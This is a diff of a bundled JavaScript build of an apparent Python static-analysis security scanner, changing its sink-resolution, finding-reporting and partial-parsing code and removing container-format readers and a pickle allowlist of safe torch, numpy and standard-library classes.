+          if (!moduleName || moduleName.startsWith(".")) break;
+          const fromlist = positional[3] ?? valueOf(keyword("fromlist"));
+          const wantsLeaf = c.name === "importlib.import_module" || fromlist && !isEmptyLiteral(fromlist);
+          out2.push({ name: canonicalName(wantsLeaf ? moduleName : moduleName.split(".")[0]) });
+          break;
+        }
+        case "builtins.getattr": {
+          const attr = positional[1] && this.constantString(positional[1], scope, depth + 1);
+          if (positional[0] && attr) {
+            for (const o of this.resolve(positional[0], scope, depth + 1)) out2.push({ name: canonicalName(`${o.name}.${attr}`) });
+          }
+          break;
+        }
+        case "builtins.vars":
+          if (positional[0]) {
+            for (const o of this.resolve(positional[0], scope, depth + 1)) out2.push({ name: `${o.name}.__dict__` });
+          }
+          break;
+        case "functools.partial":
+          if (positional[0]) out2.push(...this.resolve(positional[0], scope, depth + 1));
+          break;
+        default:
+          out2.push({ name: `${c.name}()`, constructedBy: { call: node, scope } });
+      }
+    }
+    return out2;
+  }
+  resolveSubscript(node, scope, depth) {
+    const value = childByField(node, "value");
+    const index = childByField(node, "subscript");
+    if (!value || !index) return [];
+    const key = this.constantString(index, scope, depth + 1);
+    if (key === void 0) return [];
+    const out2 = [];
+    for (const v of this.resolve(value, scope, depth + 1)) {
+      if (v.name === "sys.modules") out2.push({ name: canonicalName(key) });
+      else if (v.name.endsWith(".__dict__")) out2.push({ name: canonicalName(`${v.name.slice(0, -".__dict__".length)}.${key}`) });
+    }
+    return out2;
+  }
+  stringLiteral(node) {
+    return node.type === "string" ? decodeStringLiteral(this.text(node)) : void 0;
+  }
+};
+function unwrapParentheses(node) {
+  let n = node;
+  while (n.type === "parenthesized_expression" && n.children.length === 1) n = n.children[0];
+  return n;
+}
+function valueOf(keywordArgument) {
+  return keywordArgument ? childByField(keywordArgument, "value") : void 0;
+}
+function isEmptyLiteral(node) {
+  return (node.type === "list" || node.type === "tuple") && node.children.length === 0;
+}
+function reachingBindings(bindings, use, scope) {
+  const preceding = bindings.filter((b) => b.position <= use.start).sort((a, b) => a.position - b.position);
+  if (!preceding.length) return bindings;
+  const out2 = [];
+  for (let i2 = preceding.length - 1; i2 >= 0; i2--) {
+    out2.push(preceding[i2]);
+    if (isUnconditional(preceding[i2].site, use, scope.node)) break;
+  }
+  return out2;
+}
+function isUnconditional(site, use, scopeNode) {
+  for (let n = site.parent; n && n !== scopeNode; n = n.parent) {
+    if (n.type === "block" && n.parent?.type !== "with_statement" && !isAncestor(n, use)) return false;
+  }
+  return true;
+}
+
+// src/languages/python/analyze.ts
+var MAX_SNIPPET_LINES = 5;
+var SinkIndex = class {
+  constructor(rules) {
+    this.rules = rules;
+    this.tokens = new TokenSet(prefilterTokens(rules));
+    this.hasReferenceSinks = rules.some((r) => r.sinks.some((s) => s.references));
+    for (const rule of rules) {
+      for (const spec of rule.sinks) {
+        for (const name2 of spec.call) {
+          let list = this.byName.get(name2);
+          if (!list) this.byName.set(name2, list = []);
+          list.push({ rule, spec });
+        }
+      }
+    }
+  }
+  rules;
+  byName = /* @__PURE__ */ new Map();
+  /** Some sink is also reported when passed as a callback. */
+  hasReferenceSinks;
+  /** The prefilter tokens of all rules. */
+  tokens;
+};
+var MIN_PARTIAL_PARSE_LENGTH = 16 * 1024;
+function analyzePython(parser, file, index, options = {}) {
+  const anchors = anchorOffsets(file.source, index.tokens);
+  if (anchors.length === 0) return { findings: [], errors: [], parsed: false };
+  const partial = !options.wholeFile && file.source.length >= MIN_PARTIAL_PARSE_LENGTH;
+  const tree = partial ? parseRelevantParts(parser, file.source, anchors) : parser.parse(file.source);
+  if (!tree) return { findings: [], errors: [], parsed: false };
+  const errors = [];
+  if (tree.problems.length) {
+    const first = tree.problems[0];
+    errors.push({
+      file: file.path,
+      kind: "syntax",
+      level: "warning",
+      line: first.row + 1,
+      column: first.col + 1,
+      message: `syntax error${tree.problems.length > 1 ? `s (${tree.problems.length})` : ""}, first at line ${first.row + 1}; scanned what parsed`
+    });
+  }
+  const model = new SemanticModel(tree, file.moduleName);
+  const matches = collectMatches(model, index);
+  const findings = matches.map((m) => toFinding(m, file, model));
+  applySuppressions(findings, tree.comments.map((c) => ({ row: c.startRow, text: model.text(c) })), index.rules);
+  assignFingerprints(findings, matches);
+  return { findings, errors, parsed: true };
+}
+function parseRelevantParts(parser, source, anchors) {
+  const segments = splitTopLevel(source);
+  const ranges = segments && relevantRanges(source, segments, anchors);
+  if (ranges?.length === 0) return void 0;
+  if (ranges) {
+    const partial = parser.parse(source, ranges);
+    if (!partial.problems.length) return partial;
+  }
+  return parser.parse(source);
+}
+function collectMatches(model, index) {
+  const out2 = [];
+  const reported = /* @__PURE__ */ new Set();
+  const report = (m) => {
+    const key = `${m.rule.id}@${m.node.start}:${m.node.end}`;
+    if (reported.has(key)) return;
+    const outcome = m.spec.check ? m.spec.check(m) : {};
+    if (outcome === null) return;
+    reported.add(key);
+    out2.push({ ...m, outcome });
+  };
+  for (const { node, scope } of model.calls) {
+    const callee = childByField(node, "function");
+    if (!callee) continue;
+    let args2;
+    const argsOf = () => args2 ??= new CallArguments(node, model.tree.source);
+    const resolvedCallee = uniqueNames(model.resolve(callee, scope));
+    const base = { node, calleeText: "", model, scope };
+    for (const resolved of resolvedCallee) {
+      const sinks = index.byName.get(resolved.name);
+      if (!sinks && !resolved.localClass) continue;
+      base.calleeText ||= shortened(model.text(callee));
+      const receiver = resolved.constructedBy && {
+        ...resolved.constructedBy,
+        args: new CallArguments(resolved.constructedBy.call, model.tree.source)
+      };
+      for (const sink of sinks ?? []) {
+        report({ ...base, args: argsOf(), ...sink, target: resolved.name, via: "call", ...receiver ? { receiver } : {} });
+      }
+      if (resolved.localClass) {
+        for (const ancestor of uniqueNames(model.classAncestors(resolved.localClass, scope))) {
+          for (const sink of index.byName.get(ancestor.name) ?? []) {
+            if (!sink.spec.subclasses) continue;
+            const subclass = { name: resolved.name.replace(/^<local>\./, ""), overridesFindClass: definesMethod(model, resolved.localClass, "find_class") };
+            report({ ...base, args: argsOf(), ...sink, target: ancestor.name, via: "subclass", subclass });
+          }
+        }
+      }
+    }
+    if (!index.hasReferenceSinks) continue;
+    for (const value of argsOf().values()) {
+      if (value.type !== "identifier" && value.type !== "attribute") continue;
+      for (const resolved of uniqueNames(model.resolve(value, scope))) {
+        for (const sink of index.byName.get(resolved.name) ?? []) {
+          if (!sink.spec.references) continue;
+          const empty = new CallArguments(void 0, "");
+          report({ node: value, calleeText: shortened(model.text(value)), args: empty, model, scope, ...sink, target: resolved.name, via: "reference" });
+        }
+      }
+    }
+  }
+  return withoutCoveredReferences(out2);
+}
+function withoutCoveredReferences(matches) {
+  const calls = matches.filter((m) => m.via !== "reference");
+  return matches.filter(
+    (m) => m.via !== "reference" || !calls.some((c) => c.rule === m.rule && c.node.start <= m.node.start && m.node.end <= c.node.end)
+  );
+}
+function toFinding(m, file, model) {
+  const outcome = m.outcome ?? {};
+  const lines = lineSlice(model.tree.source, m.node.startRow, Math.min(m.node.endRow, m.node.startRow + MAX_SNIPPET_LINES - 1));
+  return {
+    ruleId: m.rule.id,
+    ruleName: m.rule.name,
+    message: outcome.message ?? m.spec.message(m),
+    severity: outcome.severity ?? m.rule.severity,
+    confidence: outcome.confidence ?? (m.via === "reference" ? "medium" : m.rule.confidence),
+    location: {
+      file: file.path,
+      line: m.node.startRow + 1,
+      column: m.node.startCol + 1,
+      endLine: m.node.endRow + 1,
+      endColumn: m.node.endCol + 1,
+      snippet: lines
+    },
+    cwe: m.rule.cwe,
+    owasp: m.rule.owasp,
+    fingerprint: "",
+    ...outcome.fix ? { fix: outcome.fix } : {}
+  };
+}
+function applySuppressions(findings, comments, rules) {
+  if (!comments.length) return;
+  const byRow = /* @__PURE__ */ new Map();
+  for (const c of comments) {
+    const d = parseSuppression(c.text);
+    if (d) byRow.set(c.row + 1, d);
+  }
+  if (!byRow.size) return;
+  const banditIds = new Map(rules.map((r) => [r.id, r.banditIds]));
+  for (const f of findings) {
+    for (let line = f.location.line; line <= f.location.endLine && !f.suppressed; line++) {
+      const d = byRow.get(line);
+      if (d) f.suppressed = suppresses(d, f.ruleId, banditIds.get(f.ruleId) ?? []);
+    }
+  }
+}
+function assignFingerprints(findings, matches) {
+  const seen = /* @__PURE__ */ new Map();
+  findings.forEach((f, i2) => {
+    const m = matches[i2];
+    const code3 = m.model.text(m.node).replace(/\s+/g, "");
+    const key = `${f.ruleId}|${f.location.file}|${enclosingPath(m.scope, m.model)}|${code3}`;
+    const n = seen.get(key) ?? 0;
+    seen.set(key, n + 1);
+    f.fingerprint = stableHash(`${key}|${n}`);
+  });
+}
+function enclosingPath(scope, model) {
+  const names = [];
+  for (let s = scope; s && s.kind !== "module"; s = s.parent) {
+    const name2 = childByField(s.node, "name");
+    names.push(name2 ? model.text(name2) : s.kind);
+  }
+  return names.reverse().join(".");
+}
+function definesMethod(model, classDef, method) {
+  const body2 = childByField(classDef, "body");
+  if (!body2) return false;
+  return body2.children.some((stmt) => {
+    const def = stmt.type === "decorated_definition" ? childByField(stmt, "definition") : stmt;
+    const name2 = def?.type === "function_definition" ? childByField(def, "name") : void 0;
+    return name2 !== void 0 && model.text(name2) === method;
+  });
+}
+function shortened(code3) {
+  const compact = code3.replace(/\s+/g, "");
+  return compact.length > 60 ? compact.slice(0, 57) + "..." : compact;
+}
+function uniqueNames(names) {
+  const seen = /* @__PURE__ */ new Set();
+  return names.filter((n) => !seen.has(n.name) && (seen.add(n.name), true));
+}
+function lineSlice(source, fromRow, toRow) {
+  let start2 = 0;
+  for (let row = 0; row < fromRow; row++) {
+    const nl = source.indexOf("\n", start2);
+    if (nl < 0) return "";
+    start2 = nl + 1;
+  }
+  let end = start2;
+  for (let row = fromRow; row <= toRow; row++) {
+    const nl = source.indexOf("\n", end);
+    end = nl < 0 ? source.length : nl + 1;
+  }
+  return source.slice(start2, end).replace(/\r?\n$/, "").replace(/\r/g, "");
+}
+
+// src/project/analyzer.ts
+function analyzeSafely(run4, path) {
+  try {
+    return run4();
+  } catch (e) {
+    return {
+      findings: [],
+      parsed: false,
+      errors: [{ file: path, kind: "internal", level: "error", message: `internal error while analysing: ${e.message ?? e}` }]
+    };
+  }
+}
+
 // src/project/python-parser.ts
 import { existsSync } from "node:fs";
 import { readFile } from "node:fs/promises";
 import { createRequire } from "node:module";
-import { dirname, join } from "node:path";
+import { dirname as dirname2, join as join4 } from "node:path";
 import { fileURLToPath } from "node:url";
 
 // node_modules/web-tree-sitter/tree-sitter.js
@@ -10983,22 +18436,43 @@ async function createPythonParser(files) {
   parser.setLanguage(language);
   const openCursor = !files.publicCursorOnly && directCursorOps(runtimeModule) || publicCursorOps;
   return {
-    parse(source) {
-      const tree = parser.parse(source);
+    parse(source, ranges) {
+      const lines = new LineIndex(source);
+      const tree = ranges ? parser.parse(rangeReader(source, ranges), null, { includedRanges: ranges.map((r) => toRange(r, lines)) }) : parser.parse(source);
       if (!tree) throw new Error("tree-sitter returned no tree");
       try {
-        return copyTree(tree, source, openCursor);
+        return copyTree(tree, source, openCursor, lines);
       } finally {
         tree.delete();
       }
     }
   };
 }
+function rangeReader(source, ranges) {
+  let k = 0;
+  return (index) => {
+    if (k >= ranges.length || index < ranges[k].start) k = 0;
+    while (k < ranges.length && ranges[k].end <= index) k++;
+    const end = k < ranges.length ? ranges[k].end : source.length;
+    return source.slice(index, Math.min(end, index + INPUT_BUFFER_CHARS));
+  };
+}
+var INPUT_BUFFER_CHARS = 10 * 1024;
+function toRange(range, lines) {
+  const [startRow, startColumn] = lines.position(range.start);
+  const [endRow, endColumn] = lines.position(range.end);
+  return {
+    startIndex: range.start,
+    endIndex: range.end,
+    startPosition: { row: startRow, column: startColumn },
+    endPosition: { row: endRow, column: endColumn }
+  };
+}
 
 // src/project/python-parser.ts
 var require2 = createRequire(import.meta.url);
 function locate(file, packagePath) {
-  const besideBundle = join(dirname(fileURLToPath(import.meta.url)), file);
+  const besideBundle = join4(dirname2(fileURLToPath(import.meta.url)), file);
   if (existsSync(besideBundle)) return besideBundle;
   return require2.resolve(packagePath);
 }
@@ -11012,6502 +18486,78 @@ function loadPythonParser() {
   return cached;
 }
 
-// src/project/analyzer.ts
-async function inProcessAnalyzer(rules) {
-  const parser = await loadPythonParser();
-  const index = new SinkIndex(rules);
-  return {
-    analyze: async (file) => analyzeSafely(() => analyzePython(parser, file, index), file.path),
-    close: async () => {
-    }
-  };
-}
-function analyzeSafely(run3, path) {
-  try {
-    return run3();
-  } catch (e) {
-    return {
-      findings: [],
-      parsed: false,
-      errors: [{ file: path, kind: "internal", level: "error", message: `internal error while analysing: ${e.message ?? e}` }]
-    };
-  }
-}
-
-// src/artifacts/containers/bytes.ts
-function u16le(b, at) {
-  return b[at] | b[at + 1] << 8;
-}
-function u32le(b, at) {
-  return (b[at] | b[at + 1] << 8 | b[at + 2] << 16) + b[at + 3] * 16777216;
-}
-function u64le(b, at) {
-  const high = u32le(b, at + 4);
-  if (high >= 2097152) return Number.POSITIVE_INFINITY;
-  return high * 4294967296 + u32le(b, at);
-}
-function i32le(b, at) {
-  return b[at] | b[at + 1] << 8 | b[at + 2] << 16 | b[at + 3] << 24;
-}
-function i64le(b, at) {
-  const low = u32le(b, at);
-  const high = i32le(b, at + 4);
-  const value = high * 4294967296 + low;
-  return Number.isSafeInteger(value) ? value : Number.NaN;
-}
-function startsWith(b, prefix, at = 0) {
-  if (b.length < at + prefix.length) return false;
-  for (let i2 = 0; i2 < prefix.length; i2++) if (b[at + i2] !== prefix[i2]) return false;
-  return true;
-}
-function ascii(text) {
-  return Array.from(text, (c) => c.charCodeAt(0));
-}
-function latin1(b) {
-  let out2 = "";
-  for (let i2 = 0; i2 < b.length; i2 += 4096) {
-    out2 += String.fromCharCode(...b.subarray(i2, Math.min(b.length, i2 + 4096)));
-  }
-  return out2;
-}
-var utf8Decoder = new TextDecoder("utf-8", { fatal: false });
-function utf8(b) {
-  return utf8Decoder.decode(b);
-}
-function concatBytes(chunks, total) {
-  const size = total ?? chunks.reduce((n, c) => n + c.length, 0);
-  const out2 = new Uint8Array(size);
-  let at = 0;
-  for (const c of chunks) {
-    const take = Math.min(c.length, size - at);
-    out2.set(c.subarray(0, take), at);
-    at += take;
-    if (at >= size) break;
-  }
-  return out2;
-}
-function lastIndexOf(hay, needle, from = hay.length - needle.length) {
-  outer: for (let i2 = Math.min(from, hay.length - needle.length); i2 >= 0; i2--) {
-    for (let j = 0; j < needle.length; j++) if (hay[i2 + j] !== needle[j]) continue outer;
-    return i2;
-  }
-  return -1;
-}
-function indexOf(hay, needle, from = 0) {
-  outer: for (let i2 = Math.max(0, from); i2 + needle.length <= hay.length; i2++) {
-    for (let j = 0; j < needle.length; j++) if (hay[i2 + j] !== needle[j]) continue outer;
-    return i2;
-  }
-  return -1;
-}
-
-// src/artifacts/containers/sources.ts
-function memorySource(bytes) {
-  return {
-    size: bytes.length,
-    async read(offset, length) {
-      const start2 = Math.max(0, Math.min(offset, bytes.length));
-      return bytes.subarray(start2, Math.min(bytes.length, start2 + Math.max(0, length)));
-    }
-  };
-}
-function sliceSource(parent, offset, size) {
-  const start2 = Math.max(0, Math.min(offset, parent.size));
-  const length = Math.max(0, Math.min(size, parent.size - start2));
-  return {
-    size: length,
-    async read(at, want) {
-      if (at >= length || want <= 0) return new Uint8Array(0);
-      return parent.read(start2 + at, Math.min(want, length - at));
-    }
-  };
-}
-async function readRange(source, offset, length) {
-  const want = Math.max(0, Math.min(length, source.size - offset));
-  if (want === 0) return new Uint8Array(0);
-  const first = await source.read(offset, want);
-  if (first.length >= want) return first.length === want ? first : first.subarray(0, want);
-  const out2 = new Uint8Array(want);
-  out2.set(first, 0);
-  let got = first.length;
-  while (got < want) {
-    const more = await source.read(offset + got, want - got);
-    if (more.length === 0) break;
-    out2.set(more.subarray(0, want - got), got);
-    got += more.length;
-  }
-  return got === want ? out2 : out2.subarray(0, got);
-}
-
-// src/artifacts/containers/npy.ts
-var MAGIC = [147, ...ascii("NUMPY")];
-var MAX_HEADER = 1 << 20;
-function looksLikeNpy(head) {
-  return startsWith(head, MAGIC);
-}
-async function readNpyHeader(source) {
-  const prefix = await readRange(source, 0, 12);
-  if (!startsWith(prefix, MAGIC) || prefix.length < 10) return { ok: false, error: "not a .npy file" };
-  const major = prefix[6];
-  const minor = prefix[7];
-  if (major < 1 || major > 3) return { ok: false, error: `unsupported .npy format version ${major}.${minor}` };
-  const lengthSize = major === 1 ? 2 : 4;
-  if (prefix.length < 8 + lengthSize) return { ok: false, error: ".npy header is truncated" };
-  const headerLength = major === 1 ? u16le(prefix, 8) : u32le(prefix, 8);
-  const headerStart = 8 + lengthSize;
-  if (headerLength > MAX_HEADER) return { ok: false, error: `.npy header of ${headerLength} bytes is implausibly large` };
-  if (headerStart + headerLength > source.size) return { ok: false, error: ".npy header is truncated" };
-  const raw = await readRange(source, headerStart, headerLength);
-  const text = major === 3 ? utf8(raw) : latin1(raw);
-  const descr = extractValue(text, "descr");
-  if (descr === void 0) return { ok: false, error: ".npy header has no 'descr'" };
-  const shapeText = extractValue(text, "shape") ?? "()";
-  const shape = [...shapeText.matchAll(/\d+/g)].map((m) => Number(m[0]));
-  return {
-    ok: true,
-    header: {
-      version: `${major}.${minor}`,
-      descr,
-      fortranOrder: /['"]fortran_order['"]\s*:\s*True/.test(text),
-      shape,
-      hasObject: descrHasObject(descr),
-      dataOffset: headerStart + headerLength
-    }
-  };
-}
-function extractValue(text, key) {
-  const match = new RegExp(`['"]${key}['"]\\s*:\\s*`).exec(text);
-  if (!match) return void 0;
-  const start2 = match.index + match[0].length;
-  const open3 = text[start2];
-  if (open3 === "'" || open3 === '"') {
-    const end = text.indexOf(open3, start2 + 1);
-    return end < 0 ? void 0 : text.slice(start2 + 1, end);
-  }
-  if (open3 === "[" || open3 === "(") {
-    let depth = 0;
-    for (let i2 = start2; i2 < text.length; i2++) {
-      const c = text[i2];
-      if (c === "[" || c === "(") depth++;
-      else if (c === "]" || c === ")") {
-        depth--;
-        if (depth === 0) return text.slice(start2, i2 + 1);
-      }
-    }
-    return void 0;
-  }
-  return /^[^,}]*/.exec(text.slice(start2))?.[0]?.trim();
-}
-function descrHasObject(descr) {
-  if (!descr.startsWith("[")) return /^[<>|=]?O\d*$/.test(descr);
-  return [...descr.matchAll(/['"]([<>|=]?O\d*)['"]/g)].length > 0;
-}
-
-// src/artifacts/containers/tar.ts
-var BLOCK = 512;
-var MAX_NAME_RECORD = 1 << 16;
-function looksLikeTar(head) {
-  return head.length >= BLOCK && headerChecksumOk(head.subarray(0, BLOCK));
-}
-function headerChecksumOk(header) {
-  const stored = parseOctal(header.subarray(148, 156));
-  if (stored === null) return false;
-  let sum = 0;
-  for (let i2 = 0; i2 < BLOCK; i2++) sum += i2 >= 148 && i2 < 156 ? 32 : header[i2];
-  return sum === stored;
-}
-function parseOctal(field) {
-  const text = latin1(field).replace(/\0.*$/s, "").trim();
-  if (!/^[0-7]+$/.test(text)) return null;
-  return parseInt(text, 8);
-}
-function parseSize(field) {
-  if ((field[0] & 128) !== 0) {
-    let value = 0;
-    for (let i2 = 1; i2 < field.length; i2++) value = value * 256 + field[i2];
-    return Number.isSafeInteger(value) ? value : null;
-  }
-  return parseOctal(field);
-}
-function cString(field) {
-  const end = field.indexOf(0);
-  return utf8(end < 0 ? field : field.subarray(0, end));
-}
-async function listTar(source, maxEntries) {
-  const listing = { entries: [], warnings: [] };
-  let at = 0;
-  let pendingName;
-  while (at + BLOCK <= source.size) {
-    const header = await readRange(source, at, BLOCK);
-    if (header.every((b) => b === 0)) break;
-    if (!headerChecksumOk(header)) {
-      listing.warnings.push(`tar header at offset ${at} has a bad checksum; listing stopped`);
-      break;
-    }
-    const size = parseSize(header.subarray(124, 136));
-    if (size === null) {
-      listing.warnings.push(`tar header at offset ${at} has an unreadable size; listing stopped`);
-      break;
-    }
-    const type = String.fromCharCode(header[156]) || "0";
-    const dataOffset = at + BLOCK;
-    if (dataOffset + size > source.size) listing.warnings.push(`tar member at offset ${at} is truncated`);
-    if (type === "L" || type === "x") {
-      const record = await readRange(source, dataOffset, Math.min(size, MAX_NAME_RECORD));
-      pendingName = type === "L" ? cString(record) : paxPath(utf8(record)) ?? pendingName;
-    } else if (type !== "g") {
-      const prefix = latin1(header.subarray(257, 263)).startsWith("ustar") ? cString(header.subarray(345, 500)) : "";
-      const base = cString(header.subarray(0, 100));
-      const name2 = pendingName ?? (prefix ? `${prefix}/${base}` : base);
-      pendingName = void 0;
-      if (listing.entries.length >= maxEntries) {
-        listing.warnings.push(`tar has more than ${maxEntries} members; the rest were not inspected`);
-        break;
-      }
-      listing.entries.push({ name: name2, dataOffset, size: Math.max(0, Math.min(size, source.size - dataOffset)), type: type === "\0" ? "0" : type });
-    }
-    at = dataOffset + Math.ceil(size / BLOCK) * BLOCK;
-  }
-  return listing;
-}
-function paxPath(text) {
-  for (const line of text.split("\n")) {
-    const match = /^\d+ path=(.*)$/s.exec(line);
-    if (match) return match[1];
-  }
-  return void 0;
-}
-
-// src/artifacts/containers/sniff.ts
-var SNIFF_BYTES = 512;
-function sniffFormat(head) {
-  if (looksLikeNpy(head)) return "npy";
-  if (startsWith(head, ascii("PK")) || startsWith(head, ascii("PK"))) return "zip";
-  if (startsWith(head, [31, 139])) return "gzip";
-  if (startsWith(head, ascii("BZh")) && head.length > 3 && head[3] >= 49 && head[3] <= 57) return "bz2";
-  if (startsWith(head, [253, 55, 122, 88, 90, 0])) return "xz";
-  if (startsWith(head, [55, 122, 188, 175, 39, 28])) return "7z";
-  if (startsWith(head, ascii("Rar!\x07"))) return "rar";
-  if (startsWith(head, [40, 181, 47, 253])) return "zstd";
-  if (startsWith(head, [4, 34, 77, 24])) return "lz4";
-  if (looksLikeZlib(head)) return "zlib";
-  if (looksLikeLzmaAlone(head)) return "lzma";
-  if (startsWith(head, ascii("ZF")) && head.length >= 22 && head[21] === 120) return "joblib-zfile";
-  if (looksLikeTar(head)) return "tar";
-  return "unknown";
-}
-function looksLikeZlib(head) {
-  if (head.length < 2 || head[0] !== 120) return false;
-  return (head[0] << 8 | head[1]) % 31 === 0;
-}
-function looksLikeLzmaAlone(head) {
-  if (head.length < 13 || head[0] !== 93) return false;
-  const dict = (head[1] | head[2] << 8 | head[3] << 16 | head[4] << 24) >>> 0;
-  const sizeKnown = !head.subarray(5, 13).every((b) => b === 255);
-  return dict >= 1 << 12 && dict <= 1 << 30 && (!sizeKnown || head[12] === 0);
-}
-var ARTIFACT_EXTENSIONS = [
-  ".pkl",
-  ".pickle",
-  ".pck",
-  ".pcl",
-  ".p",
-  ".pt",
-  ".pth",
-  ".bin",
-  ".ckpt",
-  ".joblib",
-  ".jbl",
-  ".npy",
-  ".npz",
-  ".dill",
-  ".sav",
-  ".model",
-  ".mar",
-  ".pkl.gz",
-  ".pkl.bz2",
-  ".pkl.xz",
-  ".pkl.lzma",
-  ".pkl.z",
-  ".gz",
-  ".bz2",
-  ".xz",
-  ".lzma",
-  ".7z",
-  ".zip",
-  ".tar"
-];
-
-// src/artifacts/pickle/allowlist.ts
-var TORCH_STORAGE_TYPES = [
-  "Double",
-  "Float",
-  "Half",
-  "Long",
-  "Int",
-  "Short",
-  "Char",
-  "Byte",
-  "Bool",
-  "BFloat16",
-  "ComplexDouble",
-  "ComplexFloat",
-  "QUInt8",
-  "QInt8",
-  "QInt32",
-  "QUInt4x2",
-  "QUInt2x4"
-].map((t) => `torch.${t}Storage`);
-var TORCH_DTYPES = [
-  "float64",
-  "double",
-  "float32",
-  "float",
-  "float16",
-  "half",
-  "bfloat16",
-  "int64",
-  "long",
-  "int32",
-  "int",
-  "int16",
-  "short",
-  "int8",
-  "uint8",
-  "uint16",
-  "uint32",
-  "uint64",
-  "bool",
-  "complex32",
-  "complex64",
-  "complex128",
-  "cfloat",
-  "cdouble",
-  "chalf",
-  "qint8",
-  "quint8",
-  "qint32",
-  "quint4x2",
-  "quint2x4",
-  "float8_e4m3fn",
-  "float8_e5m2",
-  "float8_e4m3fnuz",
-  "float8_e5m2fnuz",
-  "bits8",
-  "bits16"
-].map((d) => `torch.${d}`);
-var TORCH_REBUILD = [
-  "_rebuild_tensor",
-  "_rebuild_tensor_v2",
-  "_rebuild_tensor_v3",
-  "_rebuild_parameter",
-  "_rebuild_parameter_with_state",
-  "_rebuild_qtensor",
-  "_rebuild_sparse_tensor",
-  "_rebuild_sparse_csr_tensor",
-  "_rebuild_nested_tensor",
-  "_rebuild_device_tensor_from_numpy",
-  "_rebuild_meta_tensor_no_storage",
-  "_rebuild_wrapper_subclass",
-  "_rebuild_device_tensor_from_cpu_tensor"
-].map((f) => `torch._utils.${f}`);
-var TORCH_MISC = [
-  "torch.Size",
-  "torch.device",
-  "torch.dtype",
-  "torch.Tensor",
-  "torch._tensor.Tensor",
-  "torch.nn.parameter.Parameter",
-  "torch.nn.Parameter",
-  "torch.storage.UntypedStorage",
-  "torch.UntypedStorage",
-  "torch.storage.TypedStorage",
-  "torch.TypedStorage",
-  "torch.storage._TypedStorage",
-  "torch._tensor._rebuild_from_type_v2",
-  "torch.per_tensor_affine",
-  "torch.per_channel_affine",
-  "torch.per_tensor_symmetric",
-  "torch.per_channel_symmetric",
-  "torch.per_channel_affine_float_qparams",
-  "torch.contiguous_format",
-  "torch.channels_last",
-  "torch.channels_last_3d",
-  "torch.preserve_format",
-  "torch.strided",
-  "torch.sparse_coo",
-  "torch.sparse_csr",
-  "torch.sparse_csc",
-  "torch.sparse_bsr",
-  "torch.sparse_bsc",
-  "torch._mkldnn",
-  "torch.serialization._get_layout"
-];
-var PYTHON_BUILTINS2 = [
-  "set",
-  "frozenset",
-  "list",
-  "dict",
-  "tuple",
-  "complex",
-  "bytearray",
-  "bytes",
-  "slice",
-  "range",
-  "bool",
-  "int",
-  "float",
-  "str",
-  "object",
-  "NoneType",
-  "Ellipsis",
-  "NotImplemented"
-].map((b) => `builtins.${b}`);
-var NUMPY = [
-  "numpy.core.multiarray._reconstruct",
-  "numpy.core.multiarray.scalar",
-  "numpy._core.multiarray._reconstruct",
-  "numpy._core.multiarray.scalar",
-  "numpy.ndarray",
-  "numpy.dtype",
-  "numpy.core.numeric._frombuffer",
-  "numpy._core.numeric._frombuffer",
-  "numpy.dtypes.*",
-  "numpy.ma.core._mareconstruct",
-  ...[
-    "bool_",
-    "int8",
-    "int16",
-    "int32",
-    "int64",
-    "uint8",
-    "uint16",
-    "uint32",
-    "uint64",
-    "float16",
-    "float32",
-    "float64",
-    "longdouble",
-    "complex64",
-    "complex128",
-    "clongdouble",
-    "str_",
-    "bytes_",
-    "void",
-    "object_",
-    "datetime64",
-    "timedelta64",
-    "intc",
-    "uintc",
-    "longlong",
-    "ulonglong"
-  ].map((t) => `numpy.${t}`)
-];
-var STDLIB = [
-  "collections.OrderedDict",
-  "collections.Counter",
-  "collections.defaultdict",
-  "collections.deque",
-  "_codecs.encode",
-  "codecs.encode",
-  "copyreg._reconstructor",
-  "copyreg.__newobj__",
-  "copyreg.__newobj_ex__",
-  "datetime.datetime",
-  "datetime.date",
-  "datetime.time",
-  "datetime.timedelta",
-  "datetime.timezone",
-  "decimal.Decimal",
-  "fractions.Fraction",
-  "uuid.UUID",
-  "enum.Enum"
-];
-var JOBLIB = [
-  "joblib.numpy_pickle.NumpyArrayWrapper",
-  "joblib.numpy_pickle_compat.NDArrayWrapper",
-  "joblib.numpy_pickle_compat.ZNDArrayWrapper"
-];
-var ALLOWLIST = [
-  ...TORCH_STORAGE_TYPES,
-  ...TORCH_DTYPES,
-  ...TORCH_REBUILD,
-  ...TORCH_MISC,
-  ...PYTHON_BUILTINS2,
-  ...NUMPY,
-  ...STDLIB,
-  ...JOBLIB
-];
-var ALLOWED_ONLY_WITH_SAFE_CLASS_ARGS = /* @__PURE__ */ new Set([
-  "copyreg._reconstructor",
-  "copyreg.__newobj__",
-  "copyreg.__newobj_ex__",
-  "collections.defaultdict"
-]);
-
-// src/artifacts/pickle/compat-mapping.ts
-var IMPORT_MAPPING = /* @__PURE__ */ new Map([
-  ["__builtin__", "builtins"],
-  ["copy_reg", "copyreg"],
-  ["Queue", "queue"],
-  ["SocketServer", "socketserver"],
-  ["ConfigParser", "configparser"],
-  ["repr", "reprlib"],
-  ["tkFileDialog", "tkinter.filedialog"],
-  ["tkSimpleDialog", "tkinter.simpledialog"],
-  ["tkColorChooser", "tkinter.colorchooser"],
-  ["tkCommonDialog", "tkinter.commondialog"],
-  ["Dialog", "tkinter.dialog"],
-  ["Tkdnd", "tkinter.dnd"],
-  ["tkFont", "tkinter.font"],
-  ["tkMessageBox", "tkinter.messagebox"],
-  ["ScrolledText", "tkinter.scrolledtext"],
-  ["Tkconstants", "tkinter.constants"],
-  ["Tix", "tkinter.tix"],
-  ["ttk", "tkinter.ttk"],
-  ["Tkinter", "tkinter"],
-  ["markupbase", "_markupbase"],
-  ["_winreg", "winreg"],
-  ["thread", "_thread"],
-  ["dummy_thread", "_dummy_thread"],
-  ["dbhash", "dbm.bsd"],
-  ["dumbdbm", "dbm.dumb"],
-  ["dbm", "dbm.ndbm"],
-  ["gdbm", "dbm.gnu"],
-  ["xmlrpclib", "xmlrpc.client"],
-  ["SimpleXMLRPCServer", "xmlrpc.server"],
-  ["httplib", "http.client"],
-  ["htmlentitydefs", "html.entities"],
-  ["HTMLParser", "html.parser"],
-  ["Cookie", "http.cookies"],
-  ["cookielib", "http.cookiejar"],
-  ["BaseHTTPServer", "http.server"],
-  ["test.test_support", "test.support"],
-  ["commands", "subprocess"],
-  ["urlparse", "urllib.parse"],
-  ["robotparser", "urllib.robotparser"],
-  ["urllib2", "urllib.request"],
-  ["anydbm", "dbm"],
-  ["_abcoll", "collections.abc"],
-  ["cPickle", "pickle"],
